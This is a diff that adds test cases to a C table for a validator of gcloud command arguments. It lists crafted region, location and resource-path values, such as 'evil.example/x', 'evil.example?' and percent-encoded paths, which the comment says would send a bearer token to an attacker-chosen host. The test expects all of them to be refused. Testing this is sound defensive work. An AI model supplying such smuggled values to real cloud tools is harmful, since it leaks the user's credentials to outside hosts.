@@ -143,6 +143,30 @@ static const row rows[] = {
     { "gcp", "compute instances list --project=proj-a --filter=zone:projects/x",
       "E:project=x | F*:project=proj-a", NULL },
     { "gcp", "pubsub topics publish projects/a/topics/t projects/a/topics/u", "E:project=a", NULL },
+    /* a location gcloud builds a regional API host from
+     * (https://<region>-aiplatform.googleapis.com/): a '/', '?', '#' or '\\'
+     * ends the host there and the bearer token goes to the host before it
+     * (gcloud 528 --log-http: https://evil.example/v1/projects/…) */
+    { "gcp", "ai endpoints list --region=evil.example/x", "!CLOUD_ARG_REFUSED", "--region" },
+    { "gcp", "ai endpoints list --region 'evil.example?'", "!CLOUD_ARG_REFUSED", "host" },
+    { "gcp", "run services list '--region=kubernetes#'", "!CLOUD_ARG_REFUSED", NULL },
+    { "gcp", "artifacts repositories list '--location=evil.example\\'", "!CLOUD_ARG_REFUSED",
+      NULL },
+    { "gcp", "pubsub lite-topics list --zone=a/b", "!CLOUD_ARG_REFUSED", NULL },
+    { "gcp", "ai endpoints describe 'projects/p/locations/evil.example?/endpoints/e'",
+      "!CLOUD_ARG_REFUSED", "argument 4" },
+    { "gcp", "ai endpoints describe projects%2Fp%2Flocations%2Fevil.example%3F%2Fendpoints%2Fe",
+      "!CLOUD_ARG_REFUSED", NULL },
+    { "gcp", "run services describe s '--region=us-central1' --region=us-central1#",
+      "!CLOUD_ARG_REFUSED", NULL },
+    { "gcp", "ai endpoints list --region=us-central1", "", NULL },
+    { "gcp", "run services list --region us-central1 --format json", "", NULL },
+    { "gcp", "ai endpoints describe projects/p/locations/us-central1/endpoints/e", "E:project=p",
+      NULL },
+    { "gcp", "compute instances list '--filter=zone~zones/us-.*'", "", NULL },
+    { "gcp", "compute instances describe "
+             "https://www.googleapis.com/compute/v1/projects/p/zones/z/instances/i?alt=json",
+      "E:project=p", NULL },
     /* after `--`, arguments are the remote command's */
     { "gcp", "compute ssh vm -- --project=other", "", NULL },
 
